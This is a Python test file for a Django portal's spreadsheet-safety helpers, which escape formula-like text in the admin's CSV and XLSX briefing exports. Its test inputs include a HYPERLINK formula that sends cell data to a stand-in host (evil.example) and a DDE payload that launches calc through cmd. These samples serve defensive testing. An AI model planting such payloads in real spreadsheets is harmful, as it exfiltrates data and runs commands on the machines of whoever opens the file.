"""No exported cell runs as a formula (core.spreadsheets.safe): the rule itself,
the admin's CSV and XLSX exports read back byte by byte, the round trip, and
guards that keep every export of the portal on the rule."""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib import admin
from django.urls import reverse

from briefings.models import Briefing
from core.spreadsheets import ExcelCSV, ExcelXLSX, spreadsheet_safe, spreadsheet_unescape
from tests import factories

CSV, XLSX = "0", "1"  # the admin's format choices
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"詳細")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "'=1+1",  # already starts with an apostrophe: gets one more
]


# --- the rule ---------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_safe_puts_an_apostrophe_before_formula_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "熊本県内説明会",
        "a=b",
        "2017-02-15",
        "'abc",
        "''",
        "",
        "-5",
        "+3.5",
        "-1,200",
        "-.5",
        "-1e5",
        -5,
        0,
        None,
        datetime.date(2017, 2, 15),
    ],
)
def test_spreadsheet_safe_leaves_text_numbers_and_dates_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("start", ["", "'", "''", "=", "'=", "-", "-5", "'-5", "@", "\t", "a"])
@pytest.mark.parametrize("rest", ["", "1+1", "5", "abc"])
def test_spreadsheet_unescape_gives_back_exactly_what_safe_was_given(start, rest):
    text = start + rest

    assert spreadsheet_unescape(spreadsheet_safe(text)) == text


def test_spreadsheet_unescape_keeps_an_apostrophe_export_did_not_add():
    assert spreadsheet_unescape("'abc") == "'abc"
    assert spreadsheet_unescape("'-5") == "'-5"


# --- the admin's exports --------------------------------------------------------


@pytest.fixture
def editor(client, editor):
    """The editor (tests/conftest.py), logged in."""
    client.force_login(editor)
    return editor


def export(client, format_):
    url = reverse("admin:briefings_briefing_export")
    return client.post(url, {"format": format_, "resource": "0"})


def formula_briefing():
    return factories.BriefingFactory(
        title=FORMULAS[0],
        notes=FORMULAS[1],
        location_text="-2+3",
        audience_size=35,
    )


def test_export_csv_escapes_formula_text_and_keeps_numbers_and_dates(client, editor):
    briefing = formula_briefing()

    response = export(client, CSV)

    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert (cells["開催概要"], cells["備考"], cells["開催箇所"]) == (
        "'" + FORMULAS[0],
        "'" + FORMULAS[1],
        "'-2+3",
    )
    assert (cells["ID"], cells["開催日"], cells["参加者数"]) == (
        str(briefing.pk),
        "2017-02-15",
        "35",
    )
    briefing.refresh_from_db()
    assert briefing.title == FORMULAS[0]


def test_export_xlsx_writes_formula_text_as_text_cells(client, editor):
    formula_briefing()

    content = export(client, XLSX).content

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    for column, text in [("開催概要", FORMULAS[0]), ("備考", FORMULAS[1]), ("開催箇所", "-2+3")]:
        assert (cells[column].value, cells[column].data_type) == (text, "s")
        assert cells[column].quotePrefix is True
    assert cells["開催日"].value == datetime.datetime(2017, 2, 15)
    assert (cells["参加者数"].value, cells["参加者数"].data_type) == (35, "n")
    assert cells["状況"].quotePrefix is False


@pytest.mark.parametrize(
    ("format_", "name"), [(CSV, "export.csv"), (XLSX, "export.xlsx")], ids=["csv", "xlsx"]
)
def test_export_of_formula_text_imports_back_unchanged(client, editor, format_, name):
    briefing = formula_briefing()
    factories.BriefingFactory(title="'=手で付けたアポストロフィ", notes="'abc")
    exported = export(client, format_).content
    file = io.BytesIO(exported)
    file.name = name

    preview = client.post(
        reverse("admin:briefings_briefing_import"),
        {"import_file": file, "format": format_, "resource": "0"},
    )

    assert [row.outcome for row in preview.context["result"].sheet_rows] == ["変更なし"] * 2
    assert sorted(Briefing.objects.values_list("title", "notes")) == sorted(
        [(FORMULAS[0], FORMULAS[1]), ("'=手で付けたアポストロフィ", "'abc")]
    )
    assert briefing.history.count() == 1


# --- every export, now and later ----------------------------------------------


def test_every_admin_export_uses_the_safe_formats():
    exporting = [a for a in admin.site._registry.values() if hasattr(a, "get_export_formats")]

    assert exporting, "no admin exports anything: this guard would check nothing"
    for model_admin in exporting:
        for format_class in model_admin.get_export_formats():
            assert issubclass(format_class, (ExcelCSV, ExcelXLSX)), (model_admin, format_class)


# A spreadsheet written by hand rather than through core.spreadsheets.
WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\(|\.export\(\s*[\"'](csv|tsv|xlsx|xls|ods)[\"']|"
    r"openpyxl\.Workbook\(|Workbook\(\s*write_only|base_formats\.(CSV|XLSX|TSV|XLS|ODS)\b"
)
ALLOWED = {Path("core/spreadsheets/files.py")}


def test_project_source_writes_spreadsheets_only_through_core():
    """A new CSV or XLSX export (a public download, an API renderer) must build on
    core.spreadsheets (ExcelCSV, ExcelXLSX, spreadsheet_safe), not write its own."""
    base = Path(settings.BASE_DIR)
    skipped = {".venv", "venv", "tests", "node_modules", "staticfiles", "docs", "migrations"}
    offenders = []
    for path in base.rglob("*.py"):
        relative = path.relative_to(base)
        if skipped & set(relative.parts) or relative in ALLOWED:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))

    assert offenders == []
